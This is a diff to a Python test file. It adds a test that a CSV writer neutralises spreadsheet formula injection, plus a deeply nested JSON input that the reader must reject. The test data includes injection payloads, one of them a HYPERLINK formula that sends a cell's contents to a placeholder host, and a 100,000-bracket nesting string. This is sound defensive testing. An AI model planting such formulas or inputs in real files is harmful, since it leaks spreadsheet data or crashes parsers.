@@ -15,12 +15,14 @@ from common.paths import (
     atomic_path,
     check_id,
     competition_folder,
+    escape_formulas,
     find_images,
     lock_folder,
     read_array,
     read_csv,
     read_json,
     read_parquet,
+    write_csv,
     write_json,
     write_text,
 )
@@ -68,9 +70,26 @@ def test_json(tmp_path):
         write_json(tmp_path / "a.json", {"b": math.nan})
     assert read_json(tmp_path / "a.json") == {"b": [1, 0.5, None]}
     (tmp_path / "a.json").write_bytes(b'{"b": [1,')
-    for name, said in (("a.json", "not a JSON file"), ("c.json", "no such file")):
+    (tmp_path / "deep.json").write_text("[" * 100_000)
+    for name, said in (("a.json", "not a JSON file"), ("deep.json", "not a JSON file"), ("c.json", "no such file")):
         with pytest.raises(InputError, match=f"{name}: {said}"):
             read_json(tmp_path / name)
+
+
+def test_a_spreadsheet_runs_nothing_of_a_csv(tmp_path):
+    unsafe = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "-x", "@SUM(A1)", "\t=1", "\n=1", "＝1", "--1", "-"]
+    safe = ["-1.5", "+2e-3", "1=1", " =1", "", "a", "–", "'=1", "-0.0"]
+    table = pd.DataFrame({"=text": [*unsafe, *safe], "kind": pd.Categorical(["-x"] * 19), "x": np.linspace(-1, 1, 19)})
+    write_csv(tmp_path / "t.csv", table)
+    read = pd.read_csv(tmp_path / "t.csv", dtype={"'=text": str, "x": float}, keep_default_na=False)
+    assert read["'=text"].tolist() == [*(f"'{text}" for text in unsafe), *safe]
+    assert set(read["kind"]) == {"'-x"} and read["x"].tolist() == table["x"].tolist()
+    write_csv(tmp_path / "t.csv", pd.DataFrame({"a": ["x\r=1"], "b": ["\r=1"]}))
+    assert (tmp_path / "t.csv").read_bytes() == b'a,b\n"x\n=1","\'\n=1"\n'
+    plain = pd.DataFrame({"a": [-1, 2], "b": ["x", None], "c": [True, False], "d": [-0.1, np.nan]})
+    write_csv(tmp_path / "t.csv", plain)
+    assert (tmp_path / "t.csv").read_text() == plain.to_csv(index=False)
+    assert escape_formulas(read).equals(read)  # a second call adds no apostrophe
 
 
 @pytest.mark.parametrize(
